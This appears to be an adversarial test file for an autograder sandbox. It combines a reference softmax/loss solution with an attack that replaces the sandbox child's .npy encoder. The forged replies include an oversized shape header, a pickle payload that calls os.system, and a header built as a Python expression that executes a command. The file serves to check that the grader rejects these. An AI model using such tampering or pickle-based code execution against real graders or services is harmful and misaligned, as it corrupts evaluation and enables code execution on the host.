"""ATTACK forged-npy-header

The student can reach the wire: the sandbox's child runs the zygote's code as __main__, so the
submission replaces __main__.child._npy (the .npy encoder of its replies). Values carrying a sentinel
get forged encodings: a header claiming shape (10**9,) with 8 bytes of data (softmax_jacobian),
an object dtype with a pickle payload (log_partition_grad), a header that is a Python expression
(log_likelihood_grad).

Expected: the grader's strict decoder rejects all three ('wrong-shape'); the pickle is never
loaded (its marker file does not exist); the other functions keep their points.

The honest part is the reference solution's functions (docstrings dropped).
"""

import numpy as np


# ------------------------------------------------------------------ honest part
def _as_float(a: object) -> np.ndarray:
    return np.asarray(a, dtype=np.float64)


def _row_max(Z: np.ndarray) -> np.ndarray:
    m = np.max(Z, axis=-1, keepdims=True)
    return np.where(np.isfinite(m), m, 0.0)


def _log_softmax(Z: np.ndarray) -> np.ndarray:
    shifted = Z - _row_max(Z)
    return shifted - np.log(np.sum(np.exp(shifted), axis=-1, keepdims=True))


def logsumexp(z: np.ndarray) -> float:
    z = _as_float(z).ravel()
    c = float(np.max(z))
    if not np.isfinite(c):
        return c
    return c + float(np.log(np.sum(np.exp(z - c))))


def softmax(Z: np.ndarray) -> np.ndarray:
    Z = _as_float(Z)
    E = np.exp(Z - _row_max(Z))
    return E / np.sum(E, axis=-1, keepdims=True)


def softmax_loss(W: np.ndarray, X: np.ndarray, y: np.ndarray, reg: float) -> tuple[float, np.ndarray]:
    W = _as_float(W)
    X = _as_float(X)
    y = np.asarray(y).astype(np.intp).ravel()
    reg = float(reg)
    N = X.shape[0]
    rows = np.arange(N)
    log_P = _log_softmax(X @ W.T)
    loss = -float(np.mean(log_P[rows, y])) + 0.5 * reg * float(np.sum(W * W))
    G = np.exp(log_P)
    G[rows, y] -= 1.0
    dW = G.T @ X / N + reg * W
    return (loss, dW)


# ------------------------------------------------------------------ attack
import os
import pickle
import sys

_TOKEN = "@@TOKEN@@"


class _Payload:
    def __reduce__(self):
        return (os.system, (f"touch /tmp/ggatk-{_TOKEN}-unpickled",))


def _npy_bytes(header, body):
    header = header + " " * (64 - (10 + len(header) + 1) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode("latin1") + body


_zygote = sys.modules["__main__"].child  # the zygote loads the child's code as `child`
_real_npy = getattr(_zygote, "_npy", None)


def _forged_npy(arr):
    first = float(arr.flat[0]) if arr.size else 0.0
    if first == 7777.0:
        return _npy_bytes("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000,), }", b"\0" * 8)
    if first == 8888.0:
        return _npy_bytes("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", pickle.dumps(_Payload()))
    if first == 9999.0:
        return _npy_bytes(f"__import__('os').system('touch /tmp/ggatk-{_TOKEN}-evaluated')", b"\0" * 8)
    return _real_npy(arr)


if _real_npy is not None:
    _zygote._npy = _forged_npy


def softmax_jacobian(z):
    k = np.asarray(z).size
    return np.full((k, k), 7777.0)


def log_partition_grad(theta, T):
    return np.full(np.asarray(theta).size, 8888.0)


def log_likelihood_grad(theta, tau, T):
    return np.full(np.asarray(theta).size, 9999.0)
